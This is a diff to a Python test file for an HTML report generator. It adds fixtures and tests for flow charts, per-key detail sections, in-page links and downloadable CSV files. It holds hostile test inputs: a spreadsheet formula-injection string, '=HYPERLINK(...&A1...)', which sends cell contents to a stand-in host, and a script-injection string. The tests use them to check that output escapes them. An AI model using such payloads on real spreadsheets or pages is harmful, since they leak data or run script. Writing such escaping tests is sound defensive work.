@@ -1,11 +1,15 @@
 """The page: complete, escaped, small, and without anything from elsewhere."""
 
+import csv
+import io
 import json
 import re
 from base64 import b64encode
 from fractions import Fraction
 from hashlib import sha256
+from html import unescape
 from html.parser import HTMLParser
+from urllib.request import urlopen
 
 import pytest
 
@@ -13,10 +17,13 @@ pytest.importorskip("altair")
 from keyshared.errors import ArgumentError
 from keyshared.spark.keystats.bucket_report import BucketReport, HotSlotKeys, LayoutLoads
 from keyshared.spark.replays.cause_report import HotKey, HotSlot, MembershipChange
+from keyshared.spark.replays.detail_report import Holding, Move, Subject
 from keyshared.spark.replays.enough_report import Behind, Enough, Series, Wait
+from keyshared.spark.replays.flow_report import Flow, Work
 from keyshared.spark.replays.replay_report import Backlog, ConsumerLoad, ReplayReport, html
 from keyshared.spark.replays.stays import State, Stay
 
+FORMULA = '=HYPERLINK("http://x/?"&A1;"k")'
 NASTY = "</td><script>alert('1')</script>&\""
 VOID = {"meta"}
 
@@ -75,12 +82,50 @@ def enough(*, consumers: int = 3, partitions: int = 3, name: str = "c", **change
     return Enough(**{**fields, **changed})  # type: ignore[arg-type]  # as in `report`
 
 
+def flow(*, consumers: int = 3, name: str = "c") -> Flow:
+    intervals = [minute * 60_000 for minute in range(60)]
+    each = tuple(
+        Work(
+            name=f"{name}{i}",
+            done=tuple((t, 500 + i) for t in intervals),
+            again=tuple((t, (t + i) % 3) for t in intervals),
+            unacked=tuple((t, 1 / (i + 3)) for t in intervals),
+        )
+        for i in range(consumers)
+    )
+    everybody = Work(name="all", done=((0, 12_345), (60_000, 1)), again=((0, 77), (60_000, 0)), unacked=((0, 2.5),))
+    return Flow(width_ms=60_000, everybody=everybody, consumers=each)
+
+
+def subject(number: int, *, is_key: bool, name: str = "c") -> Subject:
+    return Subject(
+        anchor=f"{'key' if is_key else 'topic-partition'}-{number}",
+        is_key=is_key,
+        name=f"{name}{number}",
+        deliveries=40,
+        again=7,
+        wait_p50_ms=3,
+        wait_p99_ms=61_000,
+        wait_max_ms=62_000,
+        outcomes=(("acked", 30), ("timed_out", 10)),
+        lag=tuple((minute * 60_000, (minute * 7 + number) % 13 / 4) for minute in range(60)),
+        holdings=tuple(Holding(f"{name}{i}", f"{name}0", i * 60_000, (i + 2) * 60_000, 9 + i, i) for i in range(12)),
+        holding_count=15,
+        moves=() if is_key else (Move(5_000, f"{name}1 leaves", 12, 48),),
+    )
+
+
 def full(*, consumers: int = 3, partitions: int = 3, points: int = 10, name: str = "c") -> ReplayReport:
     return report(
         topic_partitions=partitions,
         waits=tuple(Wait(t * 1_000, t % 7, t * 61) for t in range(points)),
         enough=enough(consumers=consumers, partitions=partitions, name=name),
         wait_ms=1_000_000,
+        flow=flow(consumers=consumers, name=name),
+        subjects=(
+            *(subject(i, is_key=False, name=name) for i in range(min(30, partitions))),
+            *(subject(i, is_key=True, name=name) for i in range(min(20, consumers))),
+        ),
         slow_keys=(
             HotKey(
                 key=f"{name}slow",
@@ -102,7 +147,13 @@ def full(*, consumers: int = 3, partitions: int = 3, points: int = 10, name: str
             MembershipChange(at_ms=7_000, what="joins", consumer=f"{name}9", keys_moved=0, keys=0, ideal=0.1),
         ),
         hot_keys=tuple(
-            HotKey(key=f"{name}{i}", messages=3_368, owners=(f"{name}1", f"{name}2"), wait_p99_ms=90_000_000)
+            HotKey(
+                key=f"{name}{i}",
+                messages=3_368,
+                owners=(f"{name}1", f"{name}2"),
+                wait_p99_ms=90_000_000,
+                anchor=f"key-{i}" if i < 20 else "",
+            )
             for i in range(consumers)
         ),
         backlogs=tuple(
@@ -163,6 +214,11 @@ class Page(HTMLParser):
         if tag not in VOID:
             self.open.append(tag)
 
+    @property
+    def links(self) -> list[str | None]:
+        """Where the page leads."""
+        return [value for name, value in self.attributes if name == "href"]
+
     def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
         self.seen.append(tag)
         self.attributes += attrs
@@ -178,6 +234,17 @@ class Page(HTMLParser):
                 assert f"'sha256-{b64encode(sha256(data.encode()).digest()).decode()}'" in self.policy
         elif self.open[-1:] != ["style"] and data.strip():
             self.text += f"{data}\n"
+
+
+def taken(page: str) -> dict[str, list[dict[str, str]]]:
+    """The files of a page by name, read by what knows nothing of how they were written."""
+    found: dict[str, list[dict[str, str]]] = {}
+    for name, link in re.findall(r'<a download="(.*?)" href="(.*?)"', page):
+        assert name not in found
+        with urlopen(unescape(link)) as file:  # noqa: S310 - the address is the file
+            assert "text/csv;charset=utf-8" == file.headers["Content-type"]
+            found[name] = list(csv.DictReader(io.StringIO(file.read().decode("utf-8-sig"), newline=""), strict=True))
+    return found
 
 
 def test_the_page_shows_every_number_of_the_report() -> None:
@@ -208,6 +275,7 @@ def test_the_page_shows_every_number_of_the_report() -> None:
         "31,337\n81.1%\n50\n3\ncslow\n90.5%\n",
         "c0\nafter 1 h\nafter 1 h 10 min\n10 min\n1 min 30 s\n17\n4\n11 min 40 s\n",
         "3 of 3 topic-partitions fell behind, the first of them after 1 h; the last had caught up after 1 h 30 min.",
+        "all\n12,346\n77\n2.5\n2.5\nc0\n30,000\n",
         "however many consumers there are: split it, or make its work shorter. Here: cslow.",
     ):
         assert fact in text, fact
@@ -253,6 +321,67 @@ def test_times_are_those_of_the_calendar_where_the_log_has_one() -> None:
     assert 1_368_328_500_000 in page.charts[0]["lines"]["at"]
 
 
+def test_what_was_done_again_and_open_is_drawn_for_all_and_for_each_consumer() -> None:
+    page = html(report(flow=flow()))
+    charts = Page(page).charts
+    assert {
+        "label": ["done", "done", "redeliveries", "redeliveries"],
+        "at": [0, 1, 0, 1],
+        "value": [12_345, 1, 77, 0],
+    } == (charts[0]["lines"])
+    assert [2.5] == charts[1]["lines"]["value"]
+    done, again, unacked = (chart["heat"] for chart in charts[2:5])
+    assert [[500 + i] * 60 for i in range(3)] == done["value"]
+    assert ["c0", "c1", "c2"] == again["label"]
+    assert [[0.3333] * 60, [0.25] * 60, [0.2] * 60] == unacked["value"]
+    files = taken(page)
+    assert ["12345", "1"] == [row["done"] for row in files["flights-deliveries-done-and-redeliveries-over-time.csv"]]
+    assert "0.333333" == files["flights-unacked-deliveries-of-each-consumer-over-time.csv"][0]["c0"]
+
+
+def test_consumers_to_whom_nothing_was_redelivered_have_no_chart_of_it() -> None:
+    calm = Work(name="c", done=((0, 1),), again=((0, 0),), unacked=((0, 1),))
+    page = html(report(flow=Flow(width_ms=1_000, everybody=calm, consumers=(calm,))))
+    assert 'aria-label="Redeliveries to each consumer' not in page
+    assert 'aria-label="Deliveries done by each consumer' in page
+
+
+def test_a_name_in_a_table_leads_to_a_part_of_the_page_of_its_own_and_that_leads_back() -> None:
+    page = html(full())
+    found = Page(page)
+    ids = [value for name, value in found.attributes if name == "id"]
+    inside = {(link or "")[1:] for link in found.links if (link or "").startswith("#")}
+    details = {f"{what}-{i}" for what in ("topic-partition", "key") for i in range(3)}
+    assert len(ids) == len(set(ids))
+    assert inside == set(ids)
+    assert details <= inside
+    for anchor in details:
+        [article] = re.findall(rf'<article class="detail" id="{anchor}" tabindex="-1".*?</article>', page, re.DOTALL)
+        back = set(re.findall('href="#(.*?)"', article))
+        named_in = {
+            table
+            for table, rows in re.findall(r'<div class="table" id="(.*?)"(.*?)</table>', page, re.DOTALL)
+            if f'<a href="#{anchor}">c{anchor[-1]}</a>' in rows
+        }
+        assert back == named_in != set()
+    assert {"table-topic-partitions-that-were-behind-the-longest-first", "table-keys-with-most-messages"} < inside
+
+
+def test_the_part_of_a_key_or_topic_partition_says_how_it_waited_who_had_it_and_what_happened() -> None:
+    page = Page(html(report(subjects=(subject(2, is_key=False), subject(1, is_key=True)))))
+    place, key = page.text.split("topic-partition c2\n", 1)[1].split("key c1\n", 1)
+    for told in (place, key):
+        assert "deliveries\n40\nredeliveries\n7\nwait p50\n3 ms\nwait p99\n1 min 1 s\nlongest wait\n1 min 2 s\n" in told
+        assert "timed_out\n10\n25.0%\n" in told
+    assert "Who had topic-partition c2 when (the 12 of 15 with most deliveries)\n" in place
+    assert "c3\nafter 3 min\nafter 5 min\n12\n3\n" in place
+    assert "after 5.0 s\nc1 leaves\n12\n25.0%\n" in place
+    assert "c3\nc0\nafter 3 min\nafter 5 min\n12\n3\n" in key
+    assert "Changes that moved" not in key
+    lags = [chart["lines"]["value"] for chart in page.charts]
+    assert [[(minute * 7 + number) % 13 / 4 for minute in range(60)] for number in (2, 1)] == lags
+
+
 def test_only_some_of_very_many_topic_partitions_are_drawn_and_the_page_says_which() -> None:
     text = Page(html(report(topic_partitions=1_000, enough=enough(partitions=1_000)))).text
     assert "Of 1,000 topic-partitions the 40 with the largest backlogs." in text
@@ -271,10 +400,55 @@ def test_the_page_refers_to_nothing_outside_itself_and_may_load_nothing() -> Non
     without_scripts = re.sub(r"<script>.*?</script>", "", page, flags=re.DOTALL)
     assert not re.search(r"https?:|//|@import|url\(|<link|<iframe|<img", without_scripts)
     found = Page(page)
-    assert {name for name, _ in found.attributes}.isdisjoint({"src", "href", "xlink:href", "action", "data", "style"})
+    assert {name for name, _ in found.attributes}.isdisjoint({"src", "xlink:href", "action", "data", "style"})
+    outside = [told for told in found.links if not (told or "").startswith("#")]
+    assert {"data:text/csv;charset=utf-8"} == {(told or "").partition(",")[0] for told in outside}
     rules = dict(rule.strip().split(" ", 1) for rule in found.policy.split(";"))
     assert "'none'" == rules["default-src"]
     assert all(source.startswith("'sha256-") for source in rules["script-src"].split())
+
+
+def test_figures_can_be_taken_away_as_the_report_has_them() -> None:
+    page = html(full(name=FORMULA))
+    files = taken(page)
+    waited = files["flights-keys-that-waited-most.csv"]
+    assert [
+        {
+            "key": f"'{FORMULA}slow",  # a spreadsheet takes it for text
+            "of all waiting": "0.734",
+            "messages": "40",
+            "of all": "0.000118773",
+            "needs of a consumer": "1.5",
+            "consumers": f"'{FORMULA}1",
+            "wait p99 (ms)": "5",
+        }
+    ] == waited
+    behind = files["flights-topic-partitions-that-were-behind-the-longest-first.csv"]
+    assert [("3600000", "4200000", "600000", "90000", "17", "4", "700000")] * 3 == [
+        tuple(row.values())[1:] for row in behind
+    ]
+    assert "fell behind (ms after the start)" in behind[0]
+    use = files["flights-use-of-each-consumer-over-time.csv"]
+    assert [[str(minute * 60_000) for minute in range(60)]] == [[row["at (ms after the start)"] for row in use]]
+    for number in range(3):
+        told = [float(row[f"'{FORMULA}{number}"]) for row in use]
+        assert [(minute * 60_000 + number) % 101 / 100 for minute in range(60)] == told
+    waits = files["flights-wait-over-time.csv"]
+    assert [(t * 61, t % 7) for t in range(10)] == [(int(row["p99 (ms)"]), int(row["p50 (ms)"])) for row in waits]
+    [stay, *_] = files["flights-when-each-consumer-was-up-draining-or-away.csv"]
+    assert [f"'{FORMULA}0", "up", "0", "3600000"] == list(stay.values())
+    every = [cell for rows in files.values() for row in rows for cell in (*row, *row.values())]
+    assert not [cell for cell in every if cell.startswith(("=", "@", "+"))]
+    assert not [cell for cell in every if cell.startswith("-") and not re.fullmatch(r"-[0-9.e-]+", cell)]
+
+
+def test_times_that_are_taken_away_are_those_of_the_calendar() -> None:
+    page = html(report(enough=enough(), epoch_ms=1_368_328_500_007, zone="local time"))
+    files = taken(page)
+    use = files["flights-use-of-each-consumer-over-time.csv"]
+    assert ["2013-05-12 03:15:00.007", "2013-05-12 03:16:00.007"] == [row["at (local time)"] for row in use[:2]]
+    [behind, *_] = files["flights-topic-partitions-that-were-behind-the-longest-first.csv"]
+    assert "2013-05-12 04:15:00.007" == behind["fell behind (local time)"]
 
 
 def test_the_page_stays_small_however_long_the_log_is_and_has_its_scripts_once() -> None:
